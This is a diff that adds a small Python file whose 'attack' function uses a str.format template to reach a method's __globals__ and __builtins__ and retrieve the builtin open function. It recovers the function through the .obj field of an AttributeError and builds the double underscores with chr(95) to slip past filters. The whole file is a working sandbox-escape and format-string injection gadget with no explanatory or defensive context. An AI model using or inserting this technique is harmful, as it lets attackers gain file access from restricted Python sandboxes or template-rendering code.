@@ -1,0 +1,29 @@
+# gained: function open
+from typing import Any
+
+
+class Own:
+    obj: Any = None
+
+    def go(self) -> None:
+        return None
+
+
+class Cover:
+    def append(self, item: Any) -> None:
+        return None
+
+
+def read(template: str, value: Any) -> Any:
+    kept: list[Any] = []
+    try:
+        template.format(value)
+    except AttributeError as error:
+        kept.append(error)
+    return kept.pop().obj
+
+
+def attack(path: str) -> Any:
+    under = chr(95) * 2
+    table = ["{0.go.%(u)sglobals%(u)s[%(u)sbuiltins%(u)s][open].nothing}" % {"u": under}]
+    return read(table[0], Own())
